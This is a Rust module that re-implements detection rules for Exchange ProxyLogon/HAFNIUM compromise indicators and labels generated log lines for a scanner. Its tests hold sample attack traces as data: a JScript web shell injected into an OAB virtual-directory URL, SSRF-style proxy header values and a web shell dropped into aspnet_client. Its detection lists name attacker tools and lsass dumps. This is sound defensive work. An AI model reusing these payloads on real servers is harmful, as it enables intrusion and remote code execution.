//! A small reference reading of the built-in detections of `docs/DETECTIONS.md`, used to label
//! what the generator writes. Every planted line is run through it, so that a line that fires
//! several rules is listed once per rule in the ground truth, and (in debug builds) every benign
//! line is checked to fire nothing. Tests can also run it over a whole generated tree.
//!
//! It is deliberately plain string code, independent of exsweep-core; where it and the scanner
//! disagree, one of the two misreads DETECTIONS.md.

/// PowerShell `-like`: case-insensitive (ASCII) wildcard match where `*` is any run and `?` any
/// one character. (`[...]` classes are not needed by any rule and are matched literally.)
pub fn like(text: &str, pattern: &str) -> bool {
    let (t, p) = (text.as_bytes(), pattern.as_bytes());
    let (mut ti, mut pi) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && (p[pi] == b'?' || p[pi].eq_ignore_ascii_case(&t[ti])) {
            ti += 1;
            pi += 1;
        } else if pi < p.len() && p[pi] == b'*' {
            star = Some((pi, ti));
            pi += 1;
        } else if let Some((sp, st)) = star {
            pi = sp + 1;
            ti = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == b'*')
}

fn find_ci(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    if needle.is_empty() {
        return Some(from.min(hay.len()));
    }
    if from >= hay.len() || hay.len() - from < needle.len() {
        return None;
    }
    (from..=hay.len() - needle.len()).find(|&i| hay[i..i + needle.len()].eq_ignore_ascii_case(needle))
}

fn contains_ci(hay: &str, needle: &str) -> bool {
    find_ci(hay.as_bytes(), needle.as_bytes(), 0).is_some()
}

/// HttpProxy rules for one row. `protocol` is the protocol folder (or the Protocol column).
pub fn httpproxy(protocol: &str, anchor_mailbox: &str, http_status: &str, backend_cookie: &str) -> Vec<&'static str> {
    let mut out = Vec::new();
    if like(anchor_mailbox, "ServerInfo~*/*")
        && !like(anchor_mailbox, "ServerInfo~*/autodiscover*")
        && !like(anchor_mailbox, "ServerInfo~localhost*/*")
    {
        out.push("EXS-26855-SERVERINFO");
    }
    if like(backend_cookie, "Server~*/*~*") {
        out.push("EXS-26855-BECOOKIE");
    }
    if protocol.eq_ignore_ascii_case("ecp")
        && like(anchor_mailbox, "ServerInfo~*/*Reset*VirtualDirectory#")
        && http_status.trim() == "200"
    {
        out.push("EXS-27065-RESETVDIR");
    }
    out
}

/// `Set-.+VirtualDirectory.+Url.*<\w+.*>.*</\w+>.+VirtualDirectory`, case-insensitive, anywhere in
/// the line. Each element is placed at its earliest possible position, which leaves the most room
/// for the rest, so this finds a match whenever the regex does.
pub fn setvdir_regex(line: &str) -> bool {
    let b = line.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let Some(p) = find_ci(b, b"set-", 0) else { return false };
    let Some(q) = find_ci(b, b"virtualdirectory", p + 5) else { return false };
    let Some(r) = find_ci(b, b"url", q + 17) else { return false };
    // `<\w+.*>`: a '<' followed by a word character, then a later '>'.
    let mut s = r + 3;
    let open = loop {
        let Some(i) = find_ci(b, b"<", s) else { return false };
        if i + 1 < b.len() && word(b[i + 1]) {
            break i;
        }
        s = i + 1;
    };
    let Some(gt) = find_ci(b, b">", open + 2) else { return false };
    // `</\w+>`: earliest closing tag after that.
    let mut s = gt + 1;
    let close_end = loop {
        let Some(i) = find_ci(b, b"</", s) else { return false };
        let mut j = i + 2;
        while j < b.len() && word(b[j]) {
            j += 1;
        }
        if j > i + 2 && j < b.len() && b[j] == b'>' {
            break j + 1;
        }
        s = i + 1;
    };
    find_ci(b, b"virtualdirectory", close_end + 1).is_some()
}

/// Splits the `;`-separated `S:KEY=value` pairs of an ECP EventData value (already CSV-unquoted).
/// A pair wrapped in `'` has its inner `'` doubled.
pub fn ecp_pairs(event_data: &str) -> Vec<String> {
    let b = event_data.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let mut cur = Vec::new();
        if b[i] == b'\'' {
            i += 1;
            while i < b.len() {
                if b[i] == b'\'' {
                    if i + 1 < b.len() && b[i + 1] == b'\'' {
                        cur.push(b'\'');
                        i += 2;
                        continue;
                    }
                    i += 1;
                    break;
                }
                cur.push(b[i]);
                i += 1;
            }
            while i < b.len() && b[i] != b';' {
                i += 1;
            }
        } else {
            while i < b.len() && b[i] != b';' {
                cur.push(b[i]);
                i += 1;
            }
        }
        i += 1; // the ';'
        out.push(String::from_utf8_lossy(&cur).into_owned());
    }
    out
}

/// The parameters of an ECP `S:CMD` value: `Cmdlet.Name=value.Name=value`, values `'quoted'` with
/// inner `'` doubled, or bare up to the next `.`.
pub fn cmd_params(cmd: &str) -> (String, Vec<(String, String)>) {
    let b = cmd.as_bytes();
    let name_end = b.iter().position(|&c| c == b'.').unwrap_or(b.len());
    let name = cmd[..name_end].to_string();
    let mut params = Vec::new();
    let mut i = name_end + 1;
    while i < b.len() {
        let eq = match b[i..].iter().position(|&c| c == b'=') {
            Some(k) => i + k,
            None => break,
        };
        let key = String::from_utf8_lossy(&b[i..eq]).into_owned();
        let mut j = eq + 1;
        let mut val = Vec::new();
        if j < b.len() && b[j] == b'\'' {
            j += 1;
            while j < b.len() {
                if b[j] == b'\'' {
                    if j + 1 < b.len() && b[j + 1] == b'\'' {
                        val.push(b'\'');
                        j += 2;
                        continue;
                    }
                    j += 1;
                    break;
                }
                val.push(b[j]);
                j += 1;
            }
            while j < b.len() && b[j] != b'.' {
                j += 1;
            }
        } else {
            while j < b.len() && b[j] != b'.' {
                val.push(b[j]);
                j += 1;
            }
        }
        params.push((key, String::from_utf8_lossy(&val).into_owned()));
        i = j + 1;
    }
    (name, params)
}

/// True when a value holds markup: `<script`, `<%`, `runat=`, or a `<tag ...>`.
pub fn has_markup(v: &str) -> bool {
    if contains_ci(v, "<script") || v.contains("<%") || contains_ci(v, "runat=") {
        return true;
    }
    let b = v.as_bytes();
    b.windows(2).enumerate().any(|(i, w)| w[0] == b'<' && w[1].is_ascii_alphabetic() && b[i..].contains(&b'>'))
}

/// ECP Server log rules for one raw line (`TimeStamp,ServerName,EventId,EventData`).
pub fn ecp_line(line: &str) -> Vec<&'static str> {
    let mut out = Vec::new();
    if setvdir_regex(line) {
        out.push("EXS-27065-SETVDIR");
    }
    let fields = split_csv(line);
    if let Some(data) = fields.get(3) {
        for pair in ecp_pairs(data) {
            let Some(cmd) = pair.strip_prefix("S:CMD=") else { continue };
            let (name, params) = cmd_params(cmd);
            let lname = name.to_ascii_lowercase();
            if lname.starts_with("set-")
                && lname.ends_with("virtualdirectory")
                && params.iter().any(|(k, v)| k.to_ascii_lowercase().ends_with("url") && has_markup(v))
            {
                out.push("EXS-27065-SETVDIR-SCRIPT");
            }
        }
    }
    out
}

/// OABGeneratorLog rule for one raw line; `exchange_path` is the install path (with or without the
/// trailing `\`).
pub fn oab_line(line: &str, exchange_path: &str) -> Vec<&'static str> {
    const HEAD: &str = "Download failed and temporary file ";
    const TAIL: &str = " needs to be removed";
    let b = line.as_bytes();
    let mut from = 0;
    while let Some(h) = find_ci(b, HEAD.as_bytes(), from) {
        let start = h + HEAD.len();
        let Some(t) = find_ci(b, TAIL.as_bytes(), start) else { break };
        let capture = line[start..t].to_ascii_lowercase();
        let mut benign = String::from("'");
        benign.push_str(&exchange_path.trim_end_matches('\\').to_ascii_lowercase());
        benign.push_str("\\clientaccess\\oab");
        if !capture.starts_with(&benign) {
            return vec!["EXS-26858-OAB-DOWNLOAD"];
        }
        from = t + TAIL.len();
    }
    Vec::new()
}

/// Application event rule.
pub fn app_event(provider: &str, level: u8, text: &str) -> Vec<&'static str> {
    if provider.eq_ignore_ascii_case("MSExchange Unified Messaging")
        && level == 2
        && contains_ci(text, "System.InvalidCastException")
    {
        vec!["EXS-26857-UM-INVALIDCAST"]
    } else {
        Vec::new()
    }
}

/// File rules for a Windows path (`C:\...`).
pub fn file(windows_path: &str) -> Vec<&'static str> {
    let p = windows_path.to_ascii_lowercase().replace('/', "\\");
    let name = p.rsplit('\\').next().unwrap_or("");
    let mut out = Vec::new();
    if (p.starts_with("c:\\root\\") || p.starts_with("c:\\windows\\temp\\"))
        && name.starts_with("lsass")
        && name.ends_with("dmp")
    {
        out.push("EXS-FILE-LSASS-DUMP");
    }
    if p.starts_with("c:\\programdata\\") && [".7z", ".zip", ".rar"].iter().any(|e| name.ends_with(e)) {
        out.push("EXS-FILE-ARCHIVE-PROGRAMDATA");
    }
    out
}

const HAFNIUM_POST: &[&str] = &[
    "/owa/auth/current/themes/resources/logon.css",
    "/owa/auth/current/themes/resources/owafont_ja.css",
    "/owa/auth/current/themes/resources/lgnbotl.gif",
    "/owa/auth/current/themes/resources/owafont_ko.css",
    "/owa/auth/current/themes/resources/segoeui-semibold.eot",
    "/owa/auth/current/themes/resources/segoeui-semilight.ttf",
    "/owa/auth/current/",
    "/ecp/default.flt",
    "/ecp/main.css",
];

const TOOL_AGENTS: &[&str] =
    &["exchangeservicesclient/0.0.0.0", "python-requests/2.19.1", "python-requests/2.25.1", "antsword/v2.1"];

const CRAWLER_AGENTS: &[&str] = &[
    "duckduckbot/1.0",
    "facebookexternalhit/1.1",
    "baiduspider/2.0",
    "bingbot/2.0",
    "googlebot/2.1",
    "exabot-thumbnails",
    "yahoo! slurp",
    "yandexbot/3.0",
    "chrome/51.0.2704.103",
];

const LEGIT_OWA_AUTH: &[&str] = &[
    "outlookcn.aspx",
    "redirsuiteserviceproxy.aspx",
    "svmfeedback.aspx",
    "errorfe.aspx",
    "expiredpassword.aspx",
    "frowny.aspx",
    "logoff.aspx",
    "logon.aspx",
    "signout.aspx",
];

/// True when `s` is `15.1.2176`-like: digits and dots, starting with a digit.
fn is_version(s: &str) -> bool {
    !s.is_empty() && s.as_bytes()[0].is_ascii_digit() && s.bytes().all(|c| c.is_ascii_digit() || c == b'.')
}

/// IIS rules for one request. `user_agent` may be in IIS form (`+` for spaces) or raw.
pub fn iis(method: &str, stem: &str, query: &str, user_agent: &str, status: u16) -> Vec<&'static str> {
    let mut out = Vec::new();
    let stem = stem.to_ascii_lowercase();
    let post = method.eq_ignore_ascii_case("POST");
    let ua = user_agent.replace('+', " ").to_ascii_lowercase();
    if post && HAFNIUM_POST.contains(&stem.as_str()) {
        out.push("EXS-IIS-HAFNIUM-POST");
    }
    if let Some(name) = stem.strip_prefix("/ecp/")
        && let Some(base) = name.strip_suffix(".js")
        && (1..=3).contains(&base.len())
        && base.bytes().all(|c| c.is_ascii_alphanumeric())
    {
        out.push("EXS-IIS-ECP-SHORT-JS");
    }
    if ["/ecp/auth/w.js", "/owa/auth/w.js", "/owa/auth/x.js"].contains(&stem.as_str()) {
        out.push("EXS-IIS-AUTH-JS");
    }
    if method.eq_ignore_ascii_case("GET")
        && stem.starts_with("/rpc/")
        && contains_ci(query, "&CorrelationID=<empty>;&RequestId=")
        && matches!(status, 200 | 301 | 302)
    {
        out.push("EXS-IIS-RPC-POC");
    }
    let tool = TOOL_AGENTS.iter().any(|a| ua.contains(a));
    let crawler = CRAWLER_AGENTS.iter().any(|a| ua.contains(a));
    let under_owa_ecp = stem.starts_with("/owa/") || stem.starts_with("/ecp/") || stem == "/owa" || stem == "/ecp";
    if tool || (crawler && post && under_owa_ecp) {
        out.push("EXS-IIS-HAFNIUM-UA");
    }
    if stem.ends_with(".aspx") && webshell_folder(&stem) {
        out.push("EXS-IIS-WEBSHELL-ASPX");
    }
    out
}

fn webshell_folder(stem: &str) -> bool {
    if stem.starts_with("/aspnet_client/") {
        return true;
    }
    if let Some(rest) = stem.strip_prefix("/owa/auth/") {
        let parts: Vec<&str> = rest.split('/').collect();
        if parts.len() == 1 {
            return !LEGIT_OWA_AUTH.contains(&parts[0]);
        }
        return parts[0] == "current" || is_version(parts[0]);
    }
    if let Some(rest) = stem.strip_prefix("/ecp/auth/") {
        return rest != "timeoutlogout.aspx";
    }
    for dir in ["/oab/", "/ews/"] {
        if let Some(rest) = stem.strip_prefix(dir)
            && !rest.contains('/')
        {
            return true;
        }
    }
    false
}

/// A minimal CSV splitter (RFC 4180 quoting) for one line.
pub fn split_csv(line: &str) -> Vec<String> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut cur = Vec::new();
    let mut i = 0;
    let mut quoted = false;
    let mut at_start = true;
    while i < b.len() {
        let c = b[i];
        if quoted {
            if c == b'"' {
                if i + 1 < b.len() && b[i + 1] == b'"' {
                    cur.push(b'"');
                    i += 1;
                } else {
                    quoted = false;
                }
            } else {
                cur.push(c);
            }
        } else if c == b'"' && at_start {
            quoted = true;
        } else if c == b',' {
            out.push(String::from_utf8_lossy(&cur).into_owned());
            cur.clear();
            at_start = true;
            i += 1;
            continue;
        } else {
            cur.push(c);
        }
        at_start = false;
        i += 1;
    }
    out.push(String::from_utf8_lossy(&cur).into_owned());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn like_matches_powershell() {
        assert!(like("ServerInfo~a]@ex01.contoso.local:444/mapi/emsmdb/?#", "ServerInfo~*/*"));
        assert!(like("serverinfo~A/B", "ServerInfo~*/*"));
        assert!(!like("ServerInfo~EX02.contoso.local", "ServerInfo~*/*"));
        assert!(like("Server~a]@x:444/ews/exchange.asmx?#~1941962753", "Server~*/*~*"));
        assert!(!like("Server~EX02.contoso.local~1942062522~3/9/2021 10:00:00 AM", "Server~*/*~*"));
        assert!(like("abc", "a?c") && !like("abcd", "a?c"));
    }

    #[test]
    fn httpproxy_rules() {
        let helse = "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#";
        assert_eq!(httpproxy("Ecp", helse, "200", ""), vec!["EXS-26855-SERVERINFO", "EXS-27065-RESETVDIR"]);
        assert_eq!(httpproxy("Owa", helse, "200", ""), vec!["EXS-26855-SERVERINFO"]);
        assert!(httpproxy("Ecp", "ServerInfo~a]@x:444/autodiscover/autodiscover.xml?#", "200", "").is_empty());
        assert!(httpproxy("Owa", "ServerInfo~localhost/owa/auth/logon.aspx?", "200", "").is_empty());
        let local_reset = "ServerInfo~localhost/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#";
        assert_eq!(httpproxy("Ecp", local_reset, "200", ""), vec!["EXS-27065-RESETVDIR"], "no localhost exclusion");
        assert!(httpproxy("Ecp", local_reset, "500", "").is_empty());
    }

    #[test]
    fn ecp_rules() {
        let bad = r#"2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:TIME=1;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8''';S:URL=https://x/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory""#;
        assert_eq!(ecp_line(bad), vec!["EXS-27065-SETVDIR", "EXS-27065-SETVDIR-SCRIPT"]);
        // HelseCERT's trimmed form lacks the second VirtualDirectory: only the exsweep rule fires.
        let trimmed = r#"2021-03-03T06:49:53.772Z,EX01,ECP.Request,"'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">x</script>''.Identity=''9'''""#;
        assert_eq!(ecp_line(trimmed), vec!["EXS-27065-SETVDIR-SCRIPT"]);
        let ok = "2021-03-01T10:00:00.000Z,EX01,ECP.Request,S:TIME=1;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''';S:URL=https://x/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory";
        assert!(ecp_line(ok).is_empty());
    }

    #[test]
    fn oab_iis_event_file_rules() {
        let ex = r"C:\Program Files\Microsoft\Exchange Server\V15";
        let ok = r"x,Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\a\b.lzx' needs to be removed.";
        let bad = r"x,Download failed and temporary file '\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx' needs to be removed.";
        assert!(oab_line(ok, ex).is_empty());
        assert_eq!(oab_line(bad, ex), vec!["EXS-26858-OAB-DOWNLOAD"]);
        assert_eq!(
            iis(
                "POST",
                "/owa/auth/Current/themes/resources/logon.css",
                "-",
                "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
                200
            ),
            vec!["EXS-IIS-HAFNIUM-POST", "EXS-IIS-HAFNIUM-UA"]
        );
        assert!(
            iis("GET", "/owa/", "-", "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", 302)
                .is_empty()
        );
        assert_eq!(iis("GET", "/ecp/y.js", "-", "x", 200), vec!["EXS-IIS-ECP-SHORT-JS"]);
        assert!(iis("GET", "/ecp/15.1.2176/scripts/common.js", "-", "x", 200).is_empty());
        assert_eq!(iis("GET", "/owa/auth/RedirSuiteServerProxy.aspx", "-", "x", 200), vec!["EXS-IIS-WEBSHELL-ASPX"]);
        assert!(iis("GET", "/owa/auth/RedirSuiteServiceProxy.aspx", "-", "x", 200).is_empty());
        assert!(iis("GET", "/ecp/auth/TimeoutLogout.aspx", "-", "x", 200).is_empty());
        assert_eq!(iis("GET", "/rpc/", "&CorrelationID=<empty>;&RequestId=1", "x", 200), vec!["EXS-IIS-RPC-POC"]);
        assert!(iis("GET", "/owa/healthcheck.htm", "-", "python-requests/2.22.0", 200).is_empty());
        assert_eq!(app_event("MSExchange Unified Messaging", 2, "a System.InvalidCastException b").len(), 1);
        assert!(app_event("MSExchange Unified Messaging", 4, "System.InvalidCastException").is_empty());
        assert_eq!(file(r"C:\Windows\Temp\lsass.dmp"), vec!["EXS-FILE-LSASS-DUMP"]);
        assert!(file(r"C:\Windows\Temp\lsass-notes.txt").is_empty());
        assert_eq!(file(r"C:\ProgramData\it.zip"), vec!["EXS-FILE-ARCHIVE-PROGRAMDATA"]);
        assert!(file(r"C:\Users\Public\report.zip").is_empty());
    }
}
